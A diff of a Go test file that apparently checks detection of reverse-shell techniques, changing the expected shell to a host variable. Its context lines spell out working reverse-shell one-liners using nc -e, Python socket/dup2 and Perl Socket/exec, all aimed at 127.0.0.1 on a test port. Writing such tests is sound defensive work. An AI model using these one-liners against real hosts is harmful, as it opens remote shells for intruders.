@@ -103,14 +103,14 @@ func TestTechniqueBashDevUDP(t *testing.T) {
 // the socket itself on the shell's stdio. (ncat -e does not: it relays
 // through pipes, see the relayed techniques.)
 func TestTechniqueNcExec(t *testing.T) {
-	testTechnique(t, technique{name: "tech-nc-e", shell: "/bin/sh", connects: true, args: func(port int) []string {
+	testTechnique(t, technique{name: "tech-nc-e", shell: hostShell, connects: true, args: func(port int) []string {
 		return []string{"/usr/bin/nc.traditional", "-e", "/bin/sh", "127.0.0.1", strconv.Itoa(port)}
 	}})
 }
 
 // python3: socket, os.dup2 onto 0, 1 and 2, subprocess.call(["/bin/sh","-i"]).
 func TestTechniquePython3Dup2(t *testing.T) {
-	testTechnique(t, technique{name: "tech-python3", shell: "/bin/sh", connects: true, args: func(port int) []string {
+	testTechnique(t, technique{name: "tech-python3", shell: hostShell, connects: true, args: func(port int) []string {
 		return []string{"/usr/bin/python3", "-c", fmt.Sprintf(`import socket,subprocess,os
 s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)
 s.connect(("127.0.0.1",%d))
@@ -121,7 +121,7 @@ subprocess.call(["/bin/sh","-i"])`, port)}
 
 // perl: Socket, open(STDIN/STDOUT/STDERR, ">&S"), exec("/bin/sh -i").
 func TestTechniquePerlSocket(t *testing.T) {
-	testTechnique(t, technique{name: "tech-perl", shell: "/bin/sh", connects: true, args: func(port int) []string {
+	testTechnique(t, technique{name: "tech-perl", shell: hostShell, connects: true, args: func(port int) []string {
 		return []string{"/usr/bin/perl", "-e", fmt.Sprintf(`use Socket;$i="127.0.0.1";$p=%d;`+
 			`socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));`+
 			`if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};`, port)}
